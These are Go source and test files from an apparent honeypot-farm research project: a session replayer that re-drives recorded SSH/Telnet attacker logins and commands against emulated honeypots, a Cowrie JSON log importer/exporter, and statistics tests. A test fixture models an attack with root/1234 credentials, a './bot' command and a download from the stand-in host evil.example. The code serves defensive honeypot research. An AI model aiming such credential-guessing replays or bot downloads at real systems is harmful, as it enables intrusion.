// the honeypot's emulated shell.
//
// Replaying the full dataset would be wire-speed-bound; the intended use
// is sampled validation (see ReplaySample) and the wire-vs-record
// throughput ablation bench.
package replay

import (
	"fmt"
	"io"
	"net"
	"sync"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/farm"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/netsim"
	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/telnet"
)

// Stats summarizes a replay run.
type Stats struct {
	Replayed int
	Errors   int
	// ByCategory counts the *source* records replayed per category.
	ByCategory [analysis.NumCategories]int
}

// Replayer replays session records against a farm.
type Replayer struct {
	Farm *farm.Farm
	// Concurrency bounds parallel sessions (default 16).
	Concurrency int
}

// ReplaySample replays every n-th record of recs (stride ≥ 1) and
// returns run statistics. Records targeting honeypots outside the farm
// are skipped.
func (r *Replayer) ReplaySample(recs []*honeypot.SessionRecord, stride int) (Stats, error) {
	if r.Farm == nil {
		return Stats{}, fmt.Errorf("replay: Farm is required")
	}
	if stride < 1 {
		stride = 1
	}
	conc := r.Concurrency
	if conc <= 0 {
		conc = 16
	}
	var (
		mu    sync.Mutex
		stats Stats
		wg    sync.WaitGroup
		sem   = make(chan struct{}, conc)
	)
	numPots := len(r.Farm.Deployments())
	for i := 0; i < len(recs); i += stride {
		rec := recs[i]
		if rec.HoneypotID < 0 || rec.HoneypotID >= numPots {
			continue
		}
		wg.Add(1)
		sem <- struct{}{}
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			err := r.replayOne(rec)
			mu.Lock()
			stats.Replayed++
			stats.ByCategory[analysis.Classify(rec)]++
			if err != nil {
				stats.Errors++
			}
			mu.Unlock()
		}()
	}
	wg.Wait()
	return stats, nil
}

// replayOne drives one session. The honeypot ends up recording a fresh
// SessionRecord into the farm's collector.
func (r *Replayer) replayOne(rec *honeypot.SessionRecord) error {
	if rec.Protocol == honeypot.Telnet {
		return r.replayTelnet(rec)
	}
	return r.replaySSH(rec)
}

func (r *Replayer) dial(rec *honeypot.SessionRecord, port int) (net.Conn, error) {
	addr := netsim.Addr{IP: r.Farm.SSHAddr(rec.HoneypotID).IP, Port: port}
	return r.Farm.Fabric().Dial(rec.ClientIP, addr)
}

func (r *Replayer) replaySSH(rec *honeypot.SessionRecord) error {
	nc, err := r.dial(rec, 22)
	if err != nil {
		return err
	}
	defer nc.Close()

	version := rec.ClientVersion
	if version == "" {
		version = "SSH-2.0-replay"
	}
	switch analysis.Classify(rec) {
	case analysis.NoCred:
		cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{SkipAuth: true, Version: version})
		if err != nil {
			return err
		}
		return cc.Close()

	case analysis.FailLog:
		cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{SkipAuth: true, Version: version})
		if err != nil {
			return err
		}
		defer cc.Close()
		for _, l := range rec.Logins {
			if _, err := cc.TryPasswords(l.User, []string{l.Password}); err != nil {
				// The server's three-strike disconnect ends the replay
				// exactly as it ended the original session.
				return nil
			}
		}
		return nil

	default:
		user, pass := successCredentials(rec)
		cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: user, Password: pass, Version: version})
		if err != nil {
			return err
		}
		defer cc.Close()
		sess, err := cc.OpenSession()
		if err != nil {
			return err
		}
		if len(rec.Commands) == 0 {
			// NO_CMD: open a shell, say nothing, leave (the original
			// mostly timed out; the replay leaves by closing).
			if err := sshwire.RequestShell(sess); err != nil {
				return err
			}
			return sess.Close()
		}
		if err := sshwire.RequestShell(sess); err != nil {
			return err
		}
		// The writer races the drain below on purpose (the honeypot echoes
		// while we type); closing writeDone joins it before returning.
		writeDone := make(chan struct{})
		go func() {
			defer close(writeDone)
			for _, c := range append(rec.Commands, honeypot.CommandRecord{Input: "exit"}) {
				if _, err := sess.Write([]byte(c.Input + "\n")); err != nil {
					// Session torn down under us; the drain sees the close.
					return
				}
			}
		}()
		_, err = io.Copy(io.Discard, sess)
		<-writeDone
		if err != nil && !sshwire.IsGracefulDisconnect(err) {
			return err
		}
		return nil
	}
}

func (r *Replayer) replayTelnet(rec *honeypot.SessionRecord) error {
	nc, err := r.dial(rec, 23)
	if err != nil {
		return err
	}
	defer nc.Close()
	c := telnet.NewConn(nc, false)

	switch analysis.Classify(rec) {
	case analysis.NoCred:
		// Read the banner and leave without credentials; an immediate
		// close still reproduces a NO_CRED probe.
		buf := make([]byte, 64)
		if _, err := nc.Read(buf); err != nil && err != io.EOF {
			return err
		}
		return nil
	case analysis.FailLog:
		for _, l := range rec.Logins {
			ok, err := telnet.ClientLogin(c, l.User, l.Password)
			if err != nil || ok {
				return nil
			}
		}
		return nil
	default:
		user, pass := successCredentials(rec)
		ok, err := telnet.ClientLogin(c, user, pass)
		if err != nil {
			return err
		}
		if !ok {
			return fmt.Errorf("replay: login rejected for %s", user)
		}
		for _, cmd := range rec.Commands {
			if err := c.WriteString(cmd.Input + "\r\n"); err != nil {
				return nil
			}
		}
		return c.WriteString("exit\r\n")
	}
}

// successCredentials extracts the record's successful login pair, or a
// policy-passing default.
func successCredentials(rec *honeypot.SessionRecord) (string, string) {
	for _, l := range rec.Logins {
		if l.Success {
			return l.User, l.Password
		}
	}
	return "root", "replay-pass"
}
