package replay

import (
	"testing"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/farm"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/workload"
)

// TestReplayAgreement generates a record-level dataset, replays a sample
// over the wire, and checks that the wire-level honeypots re-derive the
// same classifications — the central consistency claim between the two
// execution paths.
func TestReplayAgreement(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	res, err := workload.Generate(workload.Config{
		Seed:          3,
		TotalSessions: 3000,
		Days:          20,
		NumPots:       10,
		Registry:      reg,
	})
	if err != nil {
		t.Fatal(err)
	}

	f, err := farm.New(farm.Config{
		Seed:      3,
		NumPots:   10,
		NumASes:   10,
		Countries: geo.HoneyfarmCountries[:10],
		Registry:  reg,
		Fetch:     func(uri string) ([]byte, error) { return []byte("payload:" + uri), nil },
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	defer f.Stop()

	r := &Replayer{Farm: f, Concurrency: 8}
	const stride = 40
	stats, err := r.ReplaySample(res.Store.Records(), stride)
	if err != nil {
		t.Fatal(err)
	}
	if stats.Replayed < 50 {
		t.Fatalf("replayed only %d sessions", stats.Replayed)
	}
	if stats.Errors > stats.Replayed/10 {
		t.Fatalf("replay errors: %d of %d", stats.Errors, stats.Replayed)
	}

	// Wait for the farm to flush its records.
	deadline := time.Now().Add(15 * time.Second)
	for f.Collector().Len() < stats.Replayed-stats.Errors && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}

	// Compare classification distributions: every replayed category must
	// appear on the wire side with a similar share (NO_CMD replays end
	// client-closed rather than timed out, but classify identically).
	var wire [analysis.NumCategories]int
	for _, rec := range f.Collector().Records() {
		wire[analysis.Classify(rec)]++
	}
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		if stats.ByCategory[c] > 3 && wire[c] == 0 {
			t.Errorf("category %v: %d replayed but none recorded on the wire", c, stats.ByCategory[c])
		}
	}
	// Aggregate counts line up within the error budget.
	total := 0
	for _, n := range wire {
		total += n
	}
	if total < stats.Replayed-stats.Errors {
		t.Errorf("wire records = %d, want ≥ %d", total, stats.Replayed-stats.Errors)
	}
	// CMD replays must reproduce commands; CMD+URI replays must reproduce
	// URIs (the honeypot's shell re-extracts them from the typed input).
	sawCmd, sawURI, sawFile := false, false, false
	for _, rec := range f.Collector().Records() {
		switch analysis.Classify(rec) {
		case analysis.Cmd:
			sawCmd = true
		case analysis.CmdURI:
			sawURI = true
		}
		if len(rec.Files) > 0 {
			sawFile = true
		}
	}
	if !sawCmd {
		t.Error("no wire-level CMD sessions")
	}
	if stats.ByCategory[analysis.CmdURI] > 0 && !sawURI {
		t.Error("no wire-level CMD+URI sessions despite replaying some")
	}
	if stats.ByCategory[analysis.CmdURI] > 0 && !sawFile {
		t.Error("URI replays should produce downloaded-file hashes")
	}
}

func TestReplayRequiresFarm(t *testing.T) {
	r := &Replayer{}
	if _, err := r.ReplaySample(nil, 1); err == nil {
		t.Fatal("nil farm should error")
	}
}
