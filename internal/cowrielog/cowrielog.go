// Package cowrielog converts between this repository's session records
// and the JSON event-log format emitted by the real Cowrie honeypot
// (cowrie.json): one JSON object per line with an eventid such as
// cowrie.session.connect, cowrie.login.success, cowrie.command.input, or
// cowrie.session.file_download. The paper's honeyfarm runs "a customized
// version of the Cowrie honeypot suite", so this package is the interop
// seam: real Cowrie logs can be imported and fed through the exact
// analysis pipeline, and generated datasets can be exported for tools
// that expect Cowrie's format.
package cowrielog

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"time"

	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/store"
)

// Event is the union of the Cowrie event fields this package reads and
// writes. Unknown fields are ignored on import.
type Event struct {
	EventID   string `json:"eventid"`
	Session   string `json:"session"`
	Timestamp string `json:"timestamp"`
	SrcIP     string `json:"src_ip,omitempty"`
	SrcPort   int    `json:"src_port,omitempty"`
	Protocol  string `json:"protocol,omitempty"` // "ssh" or "telnet"
	Sensor    string `json:"sensor,omitempty"`
	Version   string `json:"version,omitempty"` // client SSH version
	Username  string `json:"username,omitempty"`
	Password  string `json:"password,omitempty"`
	Input     string `json:"input,omitempty"`
	// Duration is Cowrie's float seconds on session.closed.
	Duration float64 `json:"duration,omitempty"`
	// SHA-256 and destination of file downloads / uploads.
	SHASum  string `json:"shasum,omitempty"`
	Outfile string `json:"outfile,omitempty"`
	URL     string `json:"url,omitempty"`
}

// Cowrie event ids.
const (
	EvConnect      = "cowrie.session.connect"
	EvLoginSuccess = "cowrie.login.success"
	EvLoginFailed  = "cowrie.login.failed"
	EvCommandInput = "cowrie.command.input"
	EvCommandFail  = "cowrie.command.failed"
	EvFileDownload = "cowrie.session.file_download"
	EvClosed       = "cowrie.session.closed"
)

const timeLayout = "2006-01-02T15:04:05.000000Z"

// Export writes records as a Cowrie JSON event stream, ordered by
// session start time. sensorName labels the sensor field; honeypot IDs
// are appended (sensor-007).
func Export(w io.Writer, records []*honeypot.SessionRecord, sensorName string) error {
	bw := bufio.NewWriterSize(w, 1<<20)
	enc := json.NewEncoder(bw)
	ordered := append([]*honeypot.SessionRecord(nil), records...)
	sort.Slice(ordered, func(i, j int) bool { return ordered[i].Start.Before(ordered[j].Start) })
	for _, r := range ordered {
		if err := exportOne(enc, r, sensorName); err != nil {
			return err
		}
	}
	return bw.Flush()
}

func exportOne(enc *json.Encoder, r *honeypot.SessionRecord, sensorName string) error {
	session := fmt.Sprintf("%016x", r.ID)
	sensor := fmt.Sprintf("%s-%03d", sensorName, r.HoneypotID)
	stamp := func(t time.Time) string { return t.UTC().Format(timeLayout) }
	emit := func(ev Event) error {
		ev.Session = session
		ev.Sensor = sensor
		return enc.Encode(ev)
	}
	if err := emit(Event{
		EventID: EvConnect, Timestamp: stamp(r.Start),
		SrcIP: r.ClientIP, SrcPort: r.ClientPort,
		Protocol: r.Protocol.String(), Version: r.ClientVersion,
	}); err != nil {
		return err
	}
	for _, l := range r.Logins {
		id := EvLoginFailed
		if l.Success {
			id = EvLoginSuccess
		}
		if err := emit(Event{
			EventID: id, Timestamp: stamp(r.Start),
			SrcIP: r.ClientIP, Username: l.User, Password: l.Password,
		}); err != nil {
			return err
		}
	}
	for _, c := range r.Commands {
		id := EvCommandInput
		if !c.Known {
			id = EvCommandFail
		}
		if err := emit(Event{
			EventID: id, Timestamp: stamp(r.Start),
			SrcIP: r.ClientIP, Input: c.Input,
		}); err != nil {
			return err
		}
	}
	for i, f := range r.Files {
		url := ""
		if i < len(r.URIs) {
			url = r.URIs[i]
		}
		if err := emit(Event{
			EventID: EvFileDownload, Timestamp: stamp(r.Start),
			SrcIP: r.ClientIP, SHASum: f.Hash, Outfile: f.Path, URL: url,
		}); err != nil {
			return err
		}
	}
	// URIs beyond recorded files (e.g. failed downloads) still appear.
	for i := len(r.Files); i < len(r.URIs); i++ {
		if err := emit(Event{
			EventID: EvFileDownload, Timestamp: stamp(r.Start),
			SrcIP: r.ClientIP, URL: r.URIs[i],
		}); err != nil {
			return err
		}
	}
	return emit(Event{
		EventID: EvClosed, Timestamp: stamp(r.End),
		SrcIP: r.ClientIP, Duration: r.Duration().Seconds(),
	})
}

// ImportOptions maps Cowrie sensor names onto honeypot IDs.
type ImportOptions struct {
	// SensorID maps a sensor string to a honeypot index; nil assigns
	// sequential IDs in order of first appearance.
	SensorID func(sensor string) int
	// Epoch sets the resulting store's day-bucket origin; zero uses the
	// earliest event's midnight.
	Epoch time.Time
	// SkipMalformed switches Import to lenient mode: lines that fail to
	// parse (broken JSON, bad timestamps) are counted and skipped instead
	// of aborting. Real long-running Cowrie deployments produce the odd
	// truncated line on restart; lenient mode salvages the rest of the
	// log. Default (false) keeps the strict abort-with-line-number
	// behavior.
	SkipMalformed bool
}

// Import reads a Cowrie JSON event stream and reassembles session
// records into a store. Events with unknown eventids are ignored (they
// carry no session state this pipeline uses). Malformed lines abort
// with an error naming the line number, unless opts.SkipMalformed is
// set, in which case they are skipped and counted in the returned skip
// total (always zero in strict mode).
func Import(r io.Reader, opts ImportOptions) (*store.Store, int, error) {
	type building struct {
		rec    *honeypot.SessionRecord
		closed bool
	}
	sessions := make(map[string]*building)
	var order []string
	sensorIDs := make(map[string]int)
	sensorID := opts.SensorID
	if sensorID == nil {
		sensorID = func(sensor string) int {
			if id, ok := sensorIDs[sensor]; ok {
				return id
			}
			id := len(sensorIDs)
			sensorIDs[sensor] = id
			return id
		}
	}

	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 1<<20), 1<<20)
	lineNo, skipped := 0, 0
	var earliest time.Time
	for sc.Scan() {
		lineNo++
		line := sc.Bytes()
		if len(line) == 0 {
			continue
		}
		var ev Event
		if err := json.Unmarshal(line, &ev); err != nil {
			if opts.SkipMalformed {
				skipped++
				continue
			}
			return nil, 0, fmt.Errorf("cowrielog: line %d: %w", lineNo, err)
		}
		if ev.Session == "" {
			continue
		}
		ts, err := time.Parse(timeLayout, ev.Timestamp)
		if err != nil {
			// Cowrie emits several sub-second precisions; retry RFC3339.
			ts, err = time.Parse(time.RFC3339Nano, ev.Timestamp)
			if err != nil {
				if opts.SkipMalformed {
					skipped++
					continue
				}
				return nil, 0, fmt.Errorf("cowrielog: line %d: bad timestamp %q", lineNo, ev.Timestamp)
			}
		}
		if earliest.IsZero() || ts.Before(earliest) {
			earliest = ts
		}
		b := sessions[ev.Session]
		if b == nil {
			b = &building{rec: &honeypot.SessionRecord{Start: ts, End: ts}}
			sessions[ev.Session] = b
			order = append(order, ev.Session)
		}
		rec := b.rec
		switch ev.EventID {
		case EvConnect:
			rec.Start = ts
			rec.ClientIP = ev.SrcIP
			rec.ClientPort = ev.SrcPort
			rec.ClientVersion = ev.Version
			rec.HoneypotID = sensorID(ev.Sensor)
			if ev.Protocol == "telnet" {
				rec.Protocol = honeypot.Telnet
			} else {
				rec.Protocol = honeypot.SSH
			}
		case EvLoginSuccess, EvLoginFailed:
			rec.Logins = append(rec.Logins, honeypot.LoginAttempt{
				User: ev.Username, Password: ev.Password,
				Success: ev.EventID == EvLoginSuccess,
			})
		case EvCommandInput, EvCommandFail:
			rec.Commands = append(rec.Commands, honeypot.CommandRecord{
				Input: ev.Input, Known: ev.EventID == EvCommandInput,
			})
		case EvFileDownload:
			if ev.SHASum != "" {
				rec.Files = append(rec.Files, honeypot.FileRecord{
					Path: ev.Outfile, Hash: ev.SHASum, Op: "create",
				})
			}
			if ev.URL != "" {
				rec.URIs = append(rec.URIs, ev.URL)
			}
		case EvClosed:
			b.closed = true
			if ev.Duration > 0 {
				rec.End = rec.Start.Add(time.Duration(ev.Duration * float64(time.Second)))
			} else {
				rec.End = ts
			}
		}
	}
	if err := sc.Err(); err != nil {
		return nil, 0, fmt.Errorf("cowrielog: reading: %w", err)
	}

	epoch := opts.Epoch
	if epoch.IsZero() {
		epoch = earliest.Truncate(24 * time.Hour)
	}
	st := store.New(epoch)
	var id uint64
	for _, key := range order {
		b := sessions[key]
		id++
		b.rec.ID = id
		if !b.closed && b.rec.End.Before(b.rec.Start) {
			b.rec.End = b.rec.Start
		}
		st.Add(b.rec)
	}
	return st, skipped, nil
}
