package cowrielog

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/workload"
)

func sampleRecord() *honeypot.SessionRecord {
	start := time.Date(2022, 3, 10, 8, 30, 0, 0, time.UTC)
	return &honeypot.SessionRecord{
		ID: 42, HoneypotID: 7, Protocol: honeypot.SSH,
		ClientIP: "203.0.113.5", ClientPort: 51234,
		ClientVersion: "SSH-2.0-libssh2_1.8.0",
		Start:         start, End: start.Add(45 * time.Second),
		Logins: []honeypot.LoginAttempt{
			{User: "root", Password: "root"},
			{User: "root", Password: "1234", Success: true},
		},
		Commands: []honeypot.CommandRecord{
			{Input: "uname -a", Known: true},
			{Input: "./bot", Known: false},
		},
		URIs:  []string{"http://evil.example/bot"},
		Files: []honeypot.FileRecord{{Path: "/tmp/bot", Hash: "abc123", Op: "create"}},
	}
}

func TestExportEventStream(t *testing.T) {
	var buf bytes.Buffer
	if err := Export(&buf, []*honeypot.SessionRecord{sampleRecord()}, "hf"); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{
		`"eventid":"cowrie.session.connect"`,
		`"eventid":"cowrie.login.failed"`,
		`"eventid":"cowrie.login.success"`,
		`"eventid":"cowrie.command.input"`,
		`"eventid":"cowrie.command.failed"`,
		`"eventid":"cowrie.session.file_download"`,
		`"eventid":"cowrie.session.closed"`,
		`"src_ip":"203.0.113.5"`,
		`"sensor":"hf-007"`,
		`"shasum":"abc123"`,
		`"url":"http://evil.example/bot"`,
		`"duration":45`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("export missing %s", want)
		}
	}
	if lines := strings.Count(out, "\n"); lines != 7 {
		t.Errorf("event lines = %d, want 7", lines)
	}
}

func TestExportImportRoundTrip(t *testing.T) {
	rec := sampleRecord()
	var buf bytes.Buffer
	if err := Export(&buf, []*honeypot.SessionRecord{rec}, "hf"); err != nil {
		t.Fatal(err)
	}
	st, _, err := Import(&buf, ImportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if st.Len() != 1 {
		t.Fatalf("records = %d", st.Len())
	}
	got := st.Records()[0]
	if got.ClientIP != rec.ClientIP || got.ClientPort != rec.ClientPort ||
		got.ClientVersion != rec.ClientVersion || got.Protocol != rec.Protocol {
		t.Errorf("connect fields lost: %+v", got)
	}
	if len(got.Logins) != 2 || !got.LoggedIn() || got.Logins[0].Success {
		t.Errorf("logins = %+v", got.Logins)
	}
	if len(got.Commands) != 2 || got.Commands[0].Input != "uname -a" || got.Commands[1].Known {
		t.Errorf("commands = %+v", got.Commands)
	}
	if len(got.Files) != 1 || got.Files[0].Hash != "abc123" {
		t.Errorf("files = %+v", got.Files)
	}
	if len(got.URIs) != 1 {
		t.Errorf("uris = %v", got.URIs)
	}
	if got.Duration().Round(time.Second) != 45*time.Second {
		t.Errorf("duration = %v", got.Duration())
	}
	if analysis.Classify(got) != analysis.CmdURI {
		t.Errorf("classification = %v, want CMD+URI", analysis.Classify(got))
	}
}

func TestImportRealCowrieShapedLog(t *testing.T) {
	// Hand-written lines in the shape real Cowrie emits (RFC3339 nano
	// timestamps, extra fields to ignore).
	log := `{"eventid":"cowrie.session.connect","src_ip":"1.2.3.4","src_port":4000,"session":"s1","protocol":"telnet","timestamp":"2022-01-05T10:00:00.123456Z","sensor":"pot-a","message":"New connection"}
{"eventid":"cowrie.login.failed","username":"admin","password":"admin","session":"s1","timestamp":"2022-01-05T10:00:01.000000Z"}
{"eventid":"cowrie.session.closed","session":"s1","duration":12.5,"timestamp":"2022-01-05T10:00:12.000000Z"}
{"eventid":"cowrie.direct-tcpip.request","session":"s1","timestamp":"2022-01-05T10:00:02.000000Z"}
`
	st, _, err := Import(strings.NewReader(log), ImportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if st.Len() != 1 {
		t.Fatalf("records = %d", st.Len())
	}
	r := st.Records()[0]
	if r.Protocol != honeypot.Telnet || r.ClientIP != "1.2.3.4" {
		t.Errorf("record = %+v", r)
	}
	if analysis.Classify(r) != analysis.FailLog {
		t.Errorf("classification = %v", analysis.Classify(r))
	}
	if r.Duration() != 12500*time.Millisecond {
		t.Errorf("duration = %v", r.Duration())
	}
}

func TestImportErrors(t *testing.T) {
	if _, _, err := Import(strings.NewReader("{broken json\n"), ImportOptions{}); err == nil {
		t.Error("broken json should fail")
	}
	bad := `{"eventid":"cowrie.session.connect","session":"x","timestamp":"not-a-time"}`
	if _, _, err := Import(strings.NewReader(bad), ImportOptions{}); err == nil {
		t.Error("bad timestamp should fail")
	}
	// Blank lines and session-less events are tolerated.
	ok := "\n" + `{"eventid":"cowrie.log.open","timestamp":"2022-01-05T10:00:00.000000Z"}` + "\n"
	if _, _, err := Import(strings.NewReader(ok), ImportOptions{}); err != nil {
		t.Errorf("tolerable input failed: %v", err)
	}
}

// TestImportSkipMalformed covers the lenient mode: broken lines are
// counted and skipped, the intact sessions around them survive, and the
// strict default still aborts on the same input.
func TestImportSkipMalformed(t *testing.T) {
	log := `{"eventid":"cowrie.session.connect","src_ip":"1.2.3.4","session":"s1","timestamp":"2022-01-05T10:00:00.000000Z","sensor":"pot-a"}
{truncated json line from a cowrie restart
{"eventid":"cowrie.login.failed","username":"admin","password":"admin","session":"s1","timestamp":"2022-01-05T10:00:01.000000Z"}
{"eventid":"cowrie.session.connect","session":"s2","timestamp":"not-a-time","sensor":"pot-a"}
{"eventid":"cowrie.session.closed","session":"s1","duration":5.0,"timestamp":"2022-01-05T10:00:05.000000Z"}
`
	st, skipped, err := Import(strings.NewReader(log), ImportOptions{SkipMalformed: true})
	if err != nil {
		t.Fatal(err)
	}
	if skipped != 2 {
		t.Errorf("skipped = %d, want 2 (one broken JSON, one bad timestamp)", skipped)
	}
	if st.Len() != 1 {
		t.Fatalf("records = %d, want the intact s1 session", st.Len())
	}
	r := st.Records()[0]
	if r.ClientIP != "1.2.3.4" || len(r.Logins) != 1 || r.Duration() != 5*time.Second {
		t.Errorf("surviving session mangled: %+v", r)
	}

	// The same log must abort in strict mode, naming the broken line.
	if _, _, err := Import(strings.NewReader(log), ImportOptions{}); err == nil {
		t.Error("strict mode accepted malformed input")
	} else if !strings.Contains(err.Error(), "line 2") {
		t.Errorf("strict error does not name the broken line: %v", err)
	}

	// A clean log reports zero skips in lenient mode.
	clean := `{"eventid":"cowrie.session.connect","session":"s1","timestamp":"2022-01-05T10:00:00.000000Z"}
`
	if _, skipped, err := Import(strings.NewReader(clean), ImportOptions{SkipMalformed: true}); err != nil || skipped != 0 {
		t.Errorf("clean log: skipped = %d, err = %v; want 0, nil", skipped, err)
	}
}

func TestSensorIDMapping(t *testing.T) {
	log := `{"eventid":"cowrie.session.connect","src_ip":"1.1.1.1","session":"a","timestamp":"2022-01-05T10:00:00.000000Z","sensor":"east"}
{"eventid":"cowrie.session.connect","src_ip":"2.2.2.2","session":"b","timestamp":"2022-01-05T11:00:00.000000Z","sensor":"west"}
{"eventid":"cowrie.session.connect","src_ip":"3.3.3.3","session":"c","timestamp":"2022-01-05T12:00:00.000000Z","sensor":"east"}
`
	st, _, err := Import(strings.NewReader(log), ImportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	recs := st.Records()
	if recs[0].HoneypotID != recs[2].HoneypotID {
		t.Error("same sensor should map to same honeypot id")
	}
	if recs[0].HoneypotID == recs[1].HoneypotID {
		t.Error("different sensors should map to different ids")
	}
	// Custom mapping.
	st2, _, err := Import(strings.NewReader(log), ImportOptions{
		SensorID: func(sensor string) int {
			if sensor == "east" {
				return 100
			}
			return 200
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if st2.Records()[0].HoneypotID != 100 || st2.Records()[1].HoneypotID != 200 {
		t.Error("custom sensor mapping ignored")
	}
}

// TestGeneratedDatasetSurvivesCowrieRoundTrip pushes a generated dataset
// through Export→Import and verifies the analysis results agree — the
// guarantee that real Cowrie logs and synthetic datasets are
// interchangeable inputs to the pipeline.
func TestGeneratedDatasetSurvivesCowrieRoundTrip(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	res, err := workload.Generate(workload.Config{
		Seed: 4, TotalSessions: 8000, Days: 30, NumPots: 12, Registry: reg,
	})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := Export(&buf, res.Store.Records(), "hp"); err != nil {
		t.Fatal(err)
	}
	imported, _, err := Import(&buf, ImportOptions{
		Epoch:    res.Store.Epoch(),
		SensorID: sensorIndex,
	})
	if err != nil {
		t.Fatal(err)
	}
	if imported.Len() != res.Store.Len() {
		t.Fatalf("sessions: %d vs %d", imported.Len(), res.Store.Len())
	}
	a := analysis.ComputeCategoryShares(res.Store)
	b := analysis.ComputeCategoryShares(imported)
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		if a.Overall[c] != b.Overall[c] {
			t.Errorf("%v share changed: %v vs %v", c, a.Overall[c], b.Overall[c])
		}
	}
	ha := analysis.ComputeHashStats(res.Store, nil)
	hb := analysis.ComputeHashStats(imported, nil)
	if len(ha) != len(hb) {
		t.Errorf("hash counts: %d vs %d", len(ha), len(hb))
	}
}

// sensorIndex parses the trailing honeypot index out of "hp-007".
func sensorIndex(sensor string) int {
	i := strings.LastIndexByte(sensor, '-')
	if i < 0 {
		return -1
	}
	n := 0
	for _, c := range sensor[i+1:] {
		if c < '0' || c > '9' {
			return -1
		}
		n = n*10 + int(c-'0')
	}
	return n
}
