package stats

import (
	"math"
	"math/rand"
	"sort"
	"testing"
	"testing/quick"
)

func TestECDFBasics(t *testing.T) {
	e := NewECDF([]float64{1, 2, 3, 4})
	if e.Len() != 4 {
		t.Fatalf("Len = %d", e.Len())
	}
	if got := e.P(0); got != 0 {
		t.Errorf("P(0) = %v, want 0", got)
	}
	if got := e.P(2); got != 0.5 {
		t.Errorf("P(2) = %v, want 0.5", got)
	}
	if got := e.P(4); got != 1 {
		t.Errorf("P(4) = %v, want 1", got)
	}
	if got := e.Quantile(0.5); got != 2 {
		t.Errorf("Quantile(0.5) = %v, want 2", got)
	}
	if got := e.Quantile(0); got != 1 {
		t.Errorf("Quantile(0) = %v, want 1", got)
	}
	if got := e.Quantile(1); got != 4 {
		t.Errorf("Quantile(1) = %v, want 4", got)
	}
	if got := e.Mean(); got != 2.5 {
		t.Errorf("Mean = %v, want 2.5", got)
	}
}

func TestECDFEmpty(t *testing.T) {
	var e ECDF
	if e.P(10) != 0 {
		t.Error("empty P should be 0")
	}
	if !math.IsNaN(e.Quantile(0.5)) || !math.IsNaN(e.Mean()) {
		t.Error("empty quantile/mean should be NaN")
	}
	if e.Points(5) != nil {
		t.Error("empty Points should be nil")
	}
}

func TestECDFAddThenQuery(t *testing.T) {
	var e ECDF
	for _, v := range []float64{5, 1, 3} {
		e.Add(v)
	}
	if got := e.Quantile(0.5); got != 3 {
		t.Errorf("Quantile(0.5) = %v, want 3", got)
	}
	e.Add(0)
	if got := e.P(0); got != 0.25 {
		t.Errorf("P(0) after Add = %v, want 0.25", got)
	}
}

func TestECDFPoints(t *testing.T) {
	e := NewECDF([]float64{1, 2, 3, 4, 5, 6, 7, 8, 9, 10})
	pts := e.Points(5)
	if len(pts) != 5 {
		t.Fatalf("len(pts) = %d", len(pts))
	}
	if pts[0].X != 1 || pts[len(pts)-1].X != 10 {
		t.Errorf("extremes not included: %v", pts)
	}
	if pts[len(pts)-1].Y != 1 {
		t.Errorf("last Y = %v, want 1", pts[len(pts)-1].Y)
	}
	for i := 1; i < len(pts); i++ {
		if pts[i].Y < pts[i-1].Y || pts[i].X < pts[i-1].X {
			t.Errorf("points not monotone: %v", pts)
		}
	}
}

// Property: P is monotone non-decreasing and bounded in [0,1]; quantile and
// P are consistent (P(Quantile(q)) >= q).
func TestQuickECDFInvariants(t *testing.T) {
	f := func(raw []float64, q float64) bool {
		vals := raw[:0]
		for _, v := range raw {
			if !math.IsNaN(v) && !math.IsInf(v, 0) {
				vals = append(vals, v)
			}
		}
		if len(vals) == 0 {
			return true
		}
		q = math.Abs(math.Mod(q, 1))
		e := NewECDF(vals)
		x := e.Quantile(q)
		if p := e.P(x); p < q-1e-9 {
			return false
		}
		// monotone on a few probes
		prev := -1.0
		for _, probe := range []float64{e.Quantile(0.1), e.Quantile(0.5), e.Quantile(0.9)} {
			p := e.P(probe)
			if p < prev-1e-12 || p < 0 || p > 1 {
				return false
			}
			prev = p
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestBandOf(t *testing.T) {
	vals := make([]float64, 100)
	for i := range vals {
		vals[i] = float64(i + 1) // 1..100
	}
	b := BandOf(vals)
	if b.Median != 50 {
		t.Errorf("Median = %v, want 50", b.Median)
	}
	if b.P5 != 5 || b.P95 != 95 || b.P25 != 25 || b.P75 != 75 {
		t.Errorf("Band = %+v", b)
	}
}

func TestNewSeries(t *testing.T) {
	s := NewSeries([][]float64{{1, 2, 3}, {10, 20, 30}})
	if len(s.Bands) != 2 {
		t.Fatalf("len = %d", len(s.Bands))
	}
	if s.Bands[0].Median != 2 || s.Bands[1].Median != 20 {
		t.Errorf("medians = %v, %v", s.Bands[0].Median, s.Bands[1].Median)
	}
}

func TestRankCurveAndTopShare(t *testing.T) {
	vals := []float64{1, 100, 10, 50}
